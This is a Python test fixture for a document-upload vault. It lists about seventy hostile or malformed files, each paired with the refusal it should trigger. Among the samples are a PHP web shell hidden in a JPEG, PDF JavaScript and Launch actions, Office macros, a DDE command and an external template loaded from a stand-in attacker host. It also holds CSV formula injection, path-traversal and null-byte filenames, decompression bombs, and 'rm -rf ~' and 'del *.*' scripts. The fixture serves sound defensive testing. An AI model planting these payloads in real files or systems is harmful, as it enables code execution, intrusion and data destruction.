"""Seventy files that must not come in, each with why not."""

import zlib

from core.vault.upload_refusals import (
    ExpandsTooMuch as Expands,
)
from core.vault.upload_refusals import (
    FileDamaged as Damaged,
)
from core.vault.upload_refusals import (
    FileEmpty as Empty,
)
from core.vault.upload_refusals import (
    FileRefused,
    NotUtf8,
)
from core.vault.upload_refusals import (
    FileTooBig as TooBig,
)
from core.vault.upload_refusals import (
    KindNotAccepted as NotAccepted,
)
from core.vault.upload_refusals import (
    NotThatKind as NotThat,
)
from core.vault.upload_refusals import (
    PasswordFirst as Password,
)
from core.vault.upload_refusals import (
    RunsCode as Runs,
)
from core.vault.upload_refusals import (
    TooManyPages as Pages,
)
from tests.core.files import (
    ELF,
    HTML,
    PROGRAM,
    SVG,
    chunk,
    compound,
    image,
    office,
    pdf,
    plain_pdf,
    png_of,
    relations,
    stream,
    workbook,
    zipped,
)

MIB = 1024 * 1024
Case = tuple[str, bytes, type[FileRefused]]


def hostile() -> dict[str, Case]:
    """Every one by what it is: its name, its bytes, and the refusal it meets."""
    return {**_pretenders(), **_pdfs(), **_office(), **_images(), **_texts(), **_sizes()}


def _sizes() -> dict[str, Case]:
    return {
        "empty": ("a.pdf", b"", Empty),
        "empty text": ("a.txt", b"", Empty),
        "16 MB": ("a.pdf", plain_pdf(stream(bytes(15 * MIB), packed=0)), TooBig),
    }


def _pretenders() -> dict[str, Case]:
    return {
        "HTML as PDF": ("a.pdf", HTML, NotThat),
        "HTML as PDF behind blanks": ("a.pdf", b"\r\n \t" + HTML, NotThat),
        "HTML in UTF-16 as PDF": ("a.pdf", HTML.decode().encode("utf-16"), NotThat),
        "SVG as PDF": ("a.pdf", SVG, NotThat),
        "SVG as PNG": ("a.png", SVG, NotThat),
        "SVG": ("a.svg", SVG, NotAccepted),
        "HTML": ("a.html", HTML, NotAccepted),
        "HTML without an ending": ("page", HTML, NotAccepted),
        "a program as PDF": ("a.pdf", PROGRAM, NotThat),
        "a program": ("setup.exe", PROGRAM, NotAccepted),
        "a program named a.pdf\\0.exe": ("a.pdf\0.exe", PROGRAM, NotThat),
        "a Linux program as DOCX": ("a.docx", ELF, NotThat),
        "a shell script": ("a.sh", b"#!/bin/sh\nrm -rf ~\n", NotAccepted),
        "a batch file": ("a.bat", b"@echo off\r\ndel *.*\r\n", NotAccepted),
        "Python": ("../../app.py", b"import os\nos.system('id')\n", NotAccepted),
        "JavaScript": ("a.js", b"alert(1)", NotAccepted),
        "a plain archive": ("a.zip", zipped(a=b"x"), NotAccepted),
        "a plain archive as DOCX": ("a.docx", zipped(a=b"x"), NotAccepted),
        "an archive of a program as XLSX": ("a.xlsx", zipped(**{"setup.exe": PROGRAM}), NotAccepted),
        "RAR": ("a.rar", b"Rar!\x1a\x07\x00" + bytes(300), NotAccepted),
        "7-Zip": ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(300), NotAccepted),
        "GZIP": ("a.gz", b"\x1f\x8b\x08" + bytes(300), NotAccepted),
        "a workbook as DOCX": ("a.docx", workbook(), NotThat),
        "a PDF as DOCX": ("a.docx", pdf(), NotThat),
        "a PNG as PDF": ("a.pdf", image("PNG"), NotThat),
        "GIF": ("a.gif", b"GIF89a" + bytes(300), NotAccepted),
        "an old Word document": ("a.doc", compound("WordDocument"), NotAccepted),
        "a message of Outlook's": ("a.msg", compound("__substg1.0"), NotAccepted),
    }


def _pdfs() -> dict[str, Case]:
    whole = pdf("Prices", pages=3)
    script = b"<</S /JavaScript /JS (app.alert(1))>>"
    zeros = bytes(200 * MIB)
    return {
        "HTML before the PDF": ("a.pdf", HTML + whole, NotThat),
        "HTML in the head of the PDF": ("a.pdf", whole[:9] + b"%" + HTML + b"\n" + whole[9:], NotThat),
        "HTML behind the PDF": ("a.pdf", whole + HTML, NotThat),
        "a ZIP behind the PDF": ("a.pdf", whole + zipped(a=b"x"), NotThat),
        "a ZIP within the PDF": (
            "a.pdf",
            plain_pdf(stream(zipped(a=b"x" * 99), packed=0)[:-9] + b"PK\5\6" + bytes(16) + b"\x4f\0"),
            NotThat,
        ),
        "a program behind the PDF": ("a.pdf", whole + PROGRAM, NotThat),
        "a program within the PDF": ("a.pdf", plain_pdf(stream(PROGRAM, b"/Type /EmbeddedFile")), Runs),
        "a program in the clear": ("a.pdf", plain_pdf(stream(PROGRAM, b"/Type /EmbeddedFile", packed=0)), Runs),
        "half a PDF": ("a.pdf", whole[: len(whole) // 2], Damaged),
        "only a head": ("a.pdf", b"%PDF-1.7\n", Damaged),
        "a PDF without pages": ("a.pdf", plain_pdf(pages=0), Damaged),
        "a PDF with a password": ("a.pdf", whole.replace(b"/Root", b"/Encrypt 9 0 R /Root"), Password),
        "a password spelled oddly": ("a.pdf", plain_pdf().replace(b"/Root", b"/#45ncrypt <</V 4>> /Root"), Password),
        "a script": ("a.pdf", plain_pdf(script), Runs),
        "a script spelled oddly": (
            "a.pdf",
            plain_pdf(script.replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/#4a#53")),
            Runs,
        ),
        "a script in packed objects": ("a.pdf", plain_pdf(stream(b"1 0 " + script, b"/Type /ObjStm /N 1")), Runs),
        "a script packed twice": ("a.pdf", plain_pdf(stream(b"1 0 " + script, b"/Type /ObjStm /N 1", packed=2)), Runs),
        "objects packed as letters": (
            "a.pdf",
            plain_pdf(stream(b"abc", b"/Type /ObjStm /Filter /ASCII85Decode", packed=0)),
            Runs,
        ),
        "a launch": ("a.pdf", plain_pdf(b"<</S /Launch /F (cmd.exe)>>"), Runs),
        "a bomb": ("a.pdf", plain_pdf(stream(zeros)), Expands),
        "a bomb within a bomb": ("a.pdf", plain_pdf(stream(zeros, packed=2)), Expands),
        "many small bombs": ("a.pdf", plain_pdf(*[stream(bytes(2 * MIB))] * 90), Expands),
        "packed five times": ("a.pdf", plain_pdf(stream(b"x" * 99, packed=5)), Damaged),
        "20,000 pages": ("a.pdf", plain_pdf(pages=20_000), Pages),
        "nothing but streams": ("a.pdf", plain_pdf() + b"stream\n" * 2_000_000 + b"%%EOF", Damaged),
        "streams over the same bytes": ("a.pdf", plain_pdf(b"stream\nx\x9c\0\x09\0\xf6\xff" * 30_000), Expands),
    }


def _office() -> dict[str, Case]:
    macro = b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    template = relations(("attachedTemplate", "https://evil.example/a.dotm", "External"))
    with_password = bytearray(office())
    with_password[6] |= 1
    at = bytes(with_password).index(b"PK\1\2")
    with_password[at + 8] |= 1
    return {
        "macros": ("a.docx", office(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), Runs),
        "macros of an older kind": ("a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}), Runs),
        "macros by their type": ("a.docx", office(types=macro), Runs),
        "a macro file renamed": ("a.docm", office(parts={"word/vbaProject.bin": b"x"}, types=macro), Runs),
        "ActiveX": ("a.docx", office(parts={"word/activeX/activeX1.bin": b"x"}), Runs),
        "a program inside": ("a.pptx", office("pptx", {"ppt/embeddings/a.exe": PROGRAM}), Runs),
        "a template from the web": ("a.docx", office(parts={"word/_rels/settings.xml.rels": template}), Runs),
        "entities": ("a.docx", office(parts={"word/x.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), Runs),
        "entities in UTF-16": ("a.xlsx", office("xlsx", {"xl/x.xml": "<!DOCTYPE x><x/>".encode("utf-16")}), Runs),
        "DDE": ("a.docx", office(parts={"word/x.xml": b"<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"}), Runs),
        "1000 to 1": ("a.docx", office(parts={"word/media/a.bin": bytes(20 * MIB)}), Expands),
        "1000 to 1 in XML": ("a.xlsx", office("xlsx", {"xl/sheet.xml": b" " * (50 * MIB)}), Expands),
        "6,000 parts": ("a.docx", office(parts={f"word/{n}.xml": b"" for n in range(6_000)}), Expands),
        "a path out": ("a.docx", office(parts={"../../evil.xml": b"<x/>"}), Damaged),
        "half a document": ("a.docx", office()[:-60], Damaged),
        "two in one": ("a.docx", b"".join([office(), HTML]), NotThat),
        "an Office file with a password": ("a.docx", compound("EncryptionInfo", "EncryptedPackage"), Password),
        "a part with a password": ("a.docx", bytes(with_password), Password),
    }


def _images() -> dict[str, Case]:
    return {
        "a PNG of 40 gigapixels": ("a.png", png_of(200_000, 200_000), Expands),
        "a PNG without size": ("a.png", png_of(0, 10), Damaged),
        "half a PNG": ("a.png", image("PNG")[:-20], Damaged),
        "a ZIP behind the PNG": ("a.png", image("PNG") + zipped(a=b"x"), NotThat),
        "HTML within the PNG": (
            "a.png",
            png_of(9, 9, chunk(b"tEXt", b"c\0" + HTML), chunk(b"IDAT", zlib.compress(b"x"))),
            NotThat,
        ),
        "a ZIP behind the JPEG": ("a.jpg", image("JPEG") + zipped(a=b"x"), NotThat),
        "PHP within the JPEG": (
            "a.jpg",
            image("JPEG")[:2] + b"\xff\xfe\0\x1b<?php system($_GET[0]);?>" + image("JPEG")[2:],
            NotThat,
        ),
        "half a JPEG": ("a.jpg", image("JPEG")[:-9], Damaged),
    }


def _texts() -> dict[str, Case]:
    return {
        "HTML as text": ("a.txt", HTML, NotThat),
        "a script as text": ("a.txt", b"#!/bin/sh\nid\n", NotThat),
        "zero bytes in a text": ("a.txt", b"a\0b", NotThat),
        "a table in another encoding": ("a.csv", "اسم,سعر".encode("cp1256"), NotUtf8),
        "a text in UTF-16": ("a.txt", "Hello".encode("utf-16"), NotUtf8),
        "a table that starts a program": ("a.csv", b"name,price\n=cmd|' /C calc'!A0,1\n", Runs),
        "a program as a table": ("a.csv", PROGRAM, NotThat),
    }
